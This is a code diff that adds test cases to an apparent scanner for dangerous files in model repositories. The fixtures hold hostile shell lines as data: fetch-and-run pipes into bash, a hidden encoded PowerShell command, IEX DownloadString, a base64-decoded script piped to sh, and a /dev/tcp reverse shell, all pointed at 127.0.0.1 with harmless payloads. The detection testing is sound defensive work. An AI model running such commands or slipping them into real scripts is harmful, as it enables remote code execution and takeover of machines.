@@ -13,6 +13,7 @@ const repository = (name: string, title: string, more: () => Files, reference?: 
   files('repository', name, title, () => ({ 'config.json': text('{"model_type": "llama"}'), ...more() }), reference);
 const tensors = (count: number): Uint8Array =>
   writeSafetensors({ tensors: count === 0 ? [] : [{ name: 'w', dtype: 'U8', shape: [count], bytes: count }] });
+const ENCODED = Buffer.from('echo harmless', 'utf16le').toString('base64');
 const checkpoint = (): Uint8Array => torchZip(program2(stateDict()));
 
 /** What only the repository as a whole shows. */
@@ -108,5 +109,25 @@ export const repositoryCases: readonly DetectCase[] = [
   repository('keys-in-environment', 'Cloud keys and a private key', () => ({
     '.env': text(`AWS_ACCESS_KEY_ID=${credential('aws', 4)}\n${credential('aws-secret', 4)}\n`),
     'deploy.pem': text(`${credential('pem', 4)}\n`),
+  })),
+  repository('fetch-and-run', 'A script that fetches another one and runs it', () => ({
+    'install.sh': text('#!/usr/bin/env bash\nset -e\nwget -qO- http://127.0.0.1/setup \\\n  | sudo bash\n'),
+  })),
+  repository('fetch-substituted', 'The same without a pipe', () => ({
+    'run.sh': text('#!/bin/bash\nbash -c "$(curl -fsSL http://127.0.0.1/setup)"\n'),
+  })),
+  repository('encoded-command', 'A batch file that runs an encoded command', () => ({
+    'start.cmd': text(`@echo off\r\npowershell.exe -NoP -W Hidden -EncodedCommand ${ENCODED}\r\n`),
+  })),
+  repository('download-string', 'PowerShell that evaluates what an address answers, written as UTF-16', () => ({
+    'setup.ps1': new Uint8Array(
+      Buffer.from("\ufeffIEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/x')\r\n", 'utf16le'),
+    ),
+  })),
+  repository('decoded-command', 'A script that runs what base64 hides', () => ({
+    'prepare.sh': text(`#!/bin/sh\necho ${Buffer.from('echo harmless').toString('base64')} | base64 -d | sh\n`),
+  })),
+  repository('remote-shell', 'A script that hands its shell to another machine', () => ({
+    'train.sh': text('#!/bin/bash\npython train.py\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n'),
   })),
 ];
